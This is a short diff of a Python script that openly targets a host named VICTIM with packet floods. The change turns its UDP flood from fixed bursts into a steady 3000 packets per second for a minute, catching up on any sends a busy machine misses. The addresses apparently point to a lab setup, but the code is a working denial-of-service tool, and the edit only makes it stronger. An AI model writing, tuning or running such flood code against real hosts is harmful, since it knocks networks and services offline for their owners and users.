@@ -14,7 +14,7 @@ import sys
 import time
 
 HOSTS, PORTS, PACKETS = 60, 40, 1500
-UDP_SECONDS, UDP_BURST, UDP_PAUSE = 60, 30, 0.01
+UDP_SECONDS, UDP_RATE, UDP_PAUSE = 60, 3000, 0.01
 ROUTER, VICTIM = "192.168.77.1", "203.0.113.62"
 
 
@@ -59,10 +59,13 @@ def flood():
 
 def flood_udp():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    end = time.monotonic() + UDP_SECONDS
-    while time.monotonic() < end:
-        for _ in range(UDP_BURST):
+    began, sent = time.monotonic(), 0
+    while time.monotonic() < began + UDP_SECONDS:
+        # on a busy machine a pause is longer: what is due is sent
+        due = int((time.monotonic() - began) * UDP_RATE)
+        for _ in range(due - sent):
             sock.sendto(b"x" * 20, (VICTIM, 5001))
+        sent = due
         time.sleep(UDP_PAUSE)
 
 
